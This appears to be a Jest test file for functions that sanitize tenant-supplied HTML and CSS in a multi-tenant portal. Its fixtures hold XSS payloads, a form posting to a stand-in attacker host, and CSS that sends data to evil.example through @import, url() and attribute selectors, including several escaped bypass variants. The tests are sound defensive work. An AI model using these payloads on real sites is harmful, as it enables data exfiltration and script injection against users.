import { sanitizeTenantCss, sanitizeTenantHtml } from './sanitize';

describe('sanitizeTenantHtml', () => {
  it('removes scripts and event handlers and keeps the markup', () => {
    const html =
      '<img src="x" onerror="window.__xss=\'img\'"><script>window.__xss=\'script\'</script><p>Hostile header</p>';
    const clean = sanitizeTenantHtml(html, ['https://assets.example.com']);
    // The relative image is not on the asset host either: gone with its handler.
    expect(clean).toBe('<p>Hostile header</p>');
  });

  it('keeps images only from the asset hosts or inline, and no other media', () => {
    const html =
      '<img src="https://tracker.example/pixel.gif"><img src="https://assets.example.com/logo.png" alt="Logo">' +
      '<img src="data:image/png;base64,AAAA" alt="Mark"><video src="https://tracker.example/v.mp4"></video>' +
      '<audio src="https://tracker.example/a.mp3"></audio><picture><source srcset="https://tracker.example/p.png"></picture>' +
      '<img src="https://assets.example.com/a.png" srcset="https://tracker.example/b.png 2x" alt="A">';
    const clean = sanitizeTenantHtml(html, ['https://assets.example.com']) ?? '';
    expect(clean).not.toContain('tracker.example');
    expect(clean).not.toMatch(/<video|<audio|<picture|<source/);
    expect(clean).toBe(
      '<img src="https://assets.example.com/logo.png" alt="Logo"><img src="data:image/png;base64,AAAA" alt="Mark">' +
        '<img src="https://assets.example.com/a.png" alt="A">',
    );
  });

  it('removes ids and names that could shadow the portal’s own elements', () => {
    const clean = sanitizeTenantHtml('<div id="root"><a name="portal" href="https://example.com">x</a></div>');
    expect(clean).toBe('<div><a href="https://example.com">x</a></div>');
  });

  it('removes style elements and attributes, javascript: links and form controls', () => {
    const clean = sanitizeTenantHtml(
      '<style>body{display:none}</style><p style="position:fixed">Hi</p><a href="javascript:alert(1)">x</a>' +
        '<form action="https://evil.example"><input name="ssn"><button>Go</button></form>',
    );
    expect(clean).not.toMatch(/<style|style=|javascript:|<form|<input|<button/i);
    expect(clean).toContain('<p>Hi</p>');
  });

  it('keeps ordinary tenant markup and entities as they are', () => {
    const header = '<div class="brand-header"><strong>Demo Title &amp; Escrow</strong></div>';
    expect(sanitizeTenantHtml(header)).toBe(header);
  });

  it('passes null through', () => {
    expect(sanitizeTenantHtml(null)).toBeNull();
  });
});

describe('sanitizeTenantCss', () => {
  it('drops @import and outside url() from the hostile fixture', () => {
    const css =
      '@import url(https://evil.example/leak.css); input[value^="a"] { background: url(https://evil.example/a) }';
    const clean = sanitizeTenantCss(css) ?? '';
    expect(clean).not.toContain('@import');
    expect(clean).not.toContain('evil.example');
    expect(clean).toContain('input[value^="a"] { background: none }');
  });

  it.each([
    ['quoted url', 'a { background: url("https://evil.example/a") }'],
    ['single-quoted url', "a { background: url('//evil.example/a') }"],
    ['protocol-relative', 'a { background: url(//evil.example/a) }'],
    ['backslashes', 'a { background: url("\\\\\\\\evil.example/a") }'],
    ['scheme without slashes', 'a { background: url(https:evil.example/a) }'],
    ['escaped url function', 'a { background: u\\72l(https://evil.example/a) }'],
    ['escaped @import', '@\\69mport "https://evil.example/x.css";'],
    ['@import of a string', '@import "https://evil.example/x.css";'],
    ['image-set strings', 'a { background-image: image-set("https://evil.example/a" 1x) }'],
    ['font src', '@font-face { font-family: x; src: url(https://evil.example/f.woff2) format("woff2") }'],
    ['newline inside the url', 'a { background: url("/\n/evil.example/a") }'],
    ['comment inside a keyword', '@im/**/port url(https://evil.example/x.css);'],
    ['unterminated url at the end', 'a { background: url(https://evil.example/a'],
    ['websocket', 'a { background: url(wss://evil.example/a) }'],
  ])('drops an outside fetch hidden as %s', (_name, css) => {
    expect(sanitizeTenantCss(css)).not.toMatch(/evil\.example/);
  });

  it('keeps data: images and the allowed asset origins only: not even the portal’s own routes', () => {
    const kept =
      '.b { background: url("data:image/png;base64,AAAA") } .c { background: url(https://assets.example.com/logo.svg) }';
    expect(sanitizeTenantCss(kept, { allowedOrigins: ['https://assets.example.com'] })).toBe(kept);
    // A same-origin url() is a GET on the portal's own API with the client's cookies.
    expect(sanitizeTenantCss('.a { background: url(/api/auth/logout) }')).toBe('.a { background: none }');
  });

  it.each([
    ['image()', 'a { background-image: image("https://assets.example.com/a.png") }'],
    ['image() of a same-origin path', 'a { background-image: image("/api/me") }'],
    ['-webkit-image-set()', 'a { background-image: -webkit-image-set("/a.png" 1x) }'],
    ['src()', 'a { background-image: src("/a.png") }'],
    ['cross-fade()', 'a { background-image: cross-fade(url(/a.png), url(/b.png), 50%) }'],
  ])('drops a declaration that loads through %s', (_name, css) => {
    expect(sanitizeTenantCss(css, { allowedOrigins: ['https://assets.example.com'] })).toBe('a { }');
  });

  it('replaces url(javascript:…)', () => {
    expect(sanitizeTenantCss('a { background: url(javascript:alert(1)) }')).not.toMatch(/javascript/);
  });

  it('drops an origin that is not on the allowed list', () => {
    const css = '.c { background: url(https://assets.example.com.evil.example/logo.svg) }';
    expect(sanitizeTenantCss(css, { allowedOrigins: ['https://assets.example.com'] })).toBe('.c { background: none }');
  });

  it('leaves ordinary CSS and harmless strings alone', () => {
    const css =
      '.brand-header em { font-style: italic; font-family: "Georgia", serif; } p::before { content: "Call: 555" }';
    expect(sanitizeTenantCss(css)).toBe(css);
  });

  it('cannot close the style element it is written into', () => {
    expect(sanitizeTenantCss('a{}</style><script>alert(1)</script>')).not.toContain('</style');
  });

  it('passes null through', () => {
    expect(sanitizeTenantCss(null)).toBeNull();
  });

  it.each([
    ['every element outside the root, via the nesting selector', ':not(&) { display: none }'],
    ['the page around the root, via :has(&)', 'html:has(&) body { background: red }'],
    ['a bare &', '& { display: none }'],
    ['& inside :is()', ':is(&) ~ * { display: none }'],
    [':root', ':root { --brand: red }'],
    ['html', 'html { filter: invert(1) }'],
    ['body', 'body { display: none }'],
    ['head', 'head { display: block }'],
    ['escaped html', '\\68tml { filter: invert(1) }'],
    ['html in a namespace', '*|html { filter: invert(1) }'],
    ['html inside :not()', 'p:not(html) ~ * { color: red }'.replace('p:not(html) ~ *', ':where(html) p')],
    [':host', ':host { display: none }'],
    [':scope', ':scope { display: none }'],
    ['a sibling of the root (leading ~)', '~ * { display: none }'],
    ['the next sibling of the root (leading +)', '+ footer { display: none }'],
    ['a nested rule (could re-target with &)', '.a { :not(&) { display: none } }'],
    ['@scope', '@scope (html) { body { display: none } }'],
    ['@layer', '@layer x { body { display: none } }'],
    ['@container', '@container (min-width: 1px) { :root { color: red } }'],
    ['a rule in @media', '@media screen { :not(&) { display: none } }'],
  ])('refuses a selector that reaches outside the portal root: %s', (_name, css) => {
    const clean = sanitizeTenantCss(css) ?? '';
    expect(clean).not.toMatch(/display|filter|background|--brand|color/);
  });

  it('keeps the selectors of a list that stay inside and drops the others', () => {
    expect(sanitizeTenantCss('.brand h1, body, :root .x { color: red }')).toBe('.brand h1 { color: red }');
  });

  it('keeps rules inside @media and @supports, and child, descendant and attribute selectors', () => {
    const css =
      '@media (max-width: 600px) { .brand-header { font-size: 14px } } @supports (display: grid) { > .grid { display: grid } } a[href^="/"]:hover { color: red }';
    expect(sanitizeTenantCss(css)).toBe(css);
  });

  it('drops legacy script hooks and CSS that does not parse', () => {
    expect(sanitizeTenantCss('a { behavior: url(x.htc); width: expression(alert(1)); color: red }')).toBe(
      'a { color: red }',
    );
    expect(sanitizeTenantCss('a { color: red')).toBe('');
    expect(sanitizeTenantCss('a { color: red\\7d body { display: none } }')).not.toMatch(/display/);
  });
});
